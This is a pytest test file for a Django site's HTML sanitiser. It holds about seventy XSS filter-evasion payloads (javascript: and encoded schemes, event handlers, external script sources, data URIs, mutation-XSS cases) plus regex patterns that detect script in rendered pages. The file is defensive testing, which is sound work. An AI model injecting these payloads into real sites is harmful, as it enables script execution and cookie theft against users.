"""Article bodies are sanitised against the allowlist on every save; everything else is escaped on the page.

The bodies are cases from the OWASP XSS Filter Evasion Cheat Sheet
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html)
and a few mutation-XSS classics. Each must come out as allowlisted markup only.
"""

import re
from html.parser import HTMLParser

import pytest

from articles.content.html import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, ALLOWED_URL_SCHEMES, sanitize_html
from articles.models import Article

pytestmark = pytest.mark.django_db

OWASP_CASES = {
    "script-src": '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
    "polyglot": "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "img-js-quoted": "<IMG SRC=\"javascript:alert('XSS');\">",
    "img-js-unquoted": "<IMG SRC=javascript:alert('XSS')>",
    "img-js-case": "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "img-html-entities": "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "img-grave-accent": "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "a-onmouseover-quoted": '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "a-onmouseover-bare": "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "malformed-img": '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "fromcharcode": "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "img-onmouseover": "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "img-empty-src": "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "img-onerror": '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "onerror-entities": '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "href-decimal": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>',
    "href-decimal-padded": '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">x</a>',
    "href-hex": '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>',
    "href-tab": "<a href=\"jav\tascript:alert('XSS');\">x</a>",
    "href-encoded-tab": "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
    "href-encoded-newline": "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>",
    "href-encoded-cr": "<a href=\"jav&#x0D;ascript:alert('XSS');\">x</a>",
    "href-null": '<a href=java\x00script:alert("XSS")>x</a>',
    "href-leading-meta": "<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
    "script-non-alpha": '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    "body-non-alpha-handler": '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "extraneous-brackets": '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "no-closing-script": "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "protocol-resolution": "<SCRIPT SRC=//xss.rocks/.j>",
    "half-open-img": "<IMG SRC=\"javascript:alert('XSS')\"",
    "iframe-double-open": "<iframe src=http://xss.rocks/scriptlet.html <",
    "end-title": '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "input-image": "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "body-background": "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "img-dynsrc": "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "img-lowsrc": "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "list-style-image": "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "vbscript": "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "svg-onload": "<svg/onload=alert('XSS')>",
    "body-onload": "<BODY ONLOAD=alert('XSS')>",
    "bgsound": "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "br-js-entity": "<BR SIZE=\"&{alert('XSS')}\">",
    "link-stylesheet": "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "style-import": "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "meta-link-header": '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    "moz-binding": '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    "style-escaped-import": '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
    "style-expression": "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "meta-refresh-js": "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "meta-refresh-data": '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "iframe-js": "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "frameset": "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "table-background": "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
    "td-background": "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
    "div-background-image": "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "div-expression": "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "base-href": "<BASE HREF=\"javascript:alert('XSS');//\">",
    "object-scriptlet": '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    "embed-svg": '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    "conditional-comment": "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "xml-data-island": "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
    "html-time": '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>"></BODY></HTML>',
    "href-data-uri": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "form-action": '<form action="javascript:alert(1)"><button>x</button></form>',
    "mxss-math-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "attribute-breakout": "<a title='\" onmouseover=\"alert(1)' href=\"https://example.org\">x</a>",
    "href-leading-spaces": '<a href="  javascript:alert(1)">x</a>',
    "svg-animate": '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    "details-ontoggle": "<details open ontoggle=alert(1)>",
}


class _Markup(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_only_allowlisted_markup(html):
    """Every tag and attribute is on the allowlist, and every link uses an allowed scheme."""
    parser = _Markup()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, f"tag <{tag}> in {html!r}"
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            assert name in allowed, f"attribute {name} on <{tag}> in {html!r}"
            if name == "href":
                # What a browser would do: drop ASCII whitespace and control characters, then read the scheme.
                bare = re.sub(r"[\x00-\x20]", "", value or "").lower()
                scheme = bare.split(":", 1)[0] if re.match(r"^[a-z][a-z0-9+.-]*:", bare) else None
                assert scheme is None or scheme in ALLOWED_URL_SCHEMES, f"href {value!r}"


@pytest.mark.parametrize("dirty", OWASP_CASES.values(), ids=OWASP_CASES.keys())
def test_owasp_filter_evasion_case_is_reduced_to_allowlisted_markup(make, dirty):
    """Saved through the model (as an importer would), the body keeps only allowlisted markup."""
    article = make.article(body=dirty)
    stored = Article.objects.get(pk=article.pk).body
    assert_only_allowlisted_markup(stored)
    assert sanitize_html(stored) == stored  # stable: a second pass finds nothing to change (no mutation XSS)
    lowered = stored.lower()
    for never in ("<script", "<style", "<img", "<svg", "<iframe", "<object", "<embed", "<meta", "<base", "<link", "<form"):
        assert never not in lowered


def test_there_are_enough_owasp_cases():
    assert len(OWASP_CASES) >= 30


@pytest.mark.parametrize("dirty", list(OWASP_CASES.values())[::7])
def test_the_public_page_renders_no_script_from_a_hostile_body(client, make, dirty):
    """End to end: the article page has no script, event handler or script URL anywhere."""
    article = make.article(body=f"<p>Before</p>{dirty}<p>After</p>")
    html = client.get(article.get_absolute_url()).content.decode()
    # JSON-LD blocks are data, not script (CSP allows no inline script anyway); take them out whole,
    # which also proves nothing in them closed the block early.
    html = re.sub(r'<script type="application/ld\+json"[^>]*>[^<]*</script>', "", html)
    # Our own feedback script (static/js/feedback.js), exactly as the template writes it: never the body's.
    html = html.replace('<script src="/static/js/feedback.js" defer></script>', "", 1)
    # Our own search script (static/js/search.js, a file: no inline script) is the one script tag.
    html = re.sub(r'<script src="/static/js/search(?:\.[0-9a-f]+)?\.js" defer></script>', "", html)
    assert "<script" not in html.lower()
    assert not re.search(r"<[^>]+\son[a-z!#$%&()*~+\-_.,:;?@\[/|\\\]^`]*\s*=", html, re.I)
    assert not re.search(r"(href|src)\s*=\s*[\"']?\s*(javascript|vbscript|data):", html, re.I)


def test_the_body_editor_and_bulk_create_paths_are_sanitised_too():
    """bulk_create skips save(), but pre_save on the field still runs."""
    Article.objects.bulk_create([Article(title="t", slug="bulk", summary="s", body="<p onclick=alert(1)>Hi<script>x</script></p>")])
    assert Article.objects.get(slug="bulk").body == "<p>Hi</p>"


HOSTILE = '"><script>alert(1)</script><img src=x onerror=alert(2)>'


def test_titles_summaries_names_and_reference_titles_are_escaped_on_every_public_page(client, make):
    """Plain-text fields are never trusted: the payload shows as text, never as markup."""
    from taggit.models import Tag

    reviewer = make.reviewer(name=f"Dr. {HOSTILE}", credentials=HOSTILE, specialty=HOSTILE, bio=HOSTILE, slug="dr-x")
    article = make.article(title=f"Title {HOSTILE}", summary=f"Summary {HOSTILE}", funding=HOSTILE, slug="hostile", tags=["sleep"])
    Tag.objects.filter(slug="sleep").update(name=f"Tag {HOSTILE}")
    make.review(article, reviewer_=reviewer)
    source = make.source(name=f"Source {HOSTILE}")
    make.cite(article, make.reference(title=f"Ref {HOSTILE}", more_titles=f"More {HOSTILE}", source=source))
    series = make.series(title=f"Series {HOSTILE}", description=HOSTILE, slug="s")
    make.series_entry(series, article, 1, label=f"Part {HOSTILE}")
    other = make.article()
    make.related(other, article)
    pages = ["/", article.get_absolute_url(), other.get_absolute_url(), series.get_absolute_url(),
             reviewer.get_absolute_url(), "/tags/sleep/"]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert "<script>alert(1)" not in html, url
        assert "<img src=x" not in html, url
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html, url
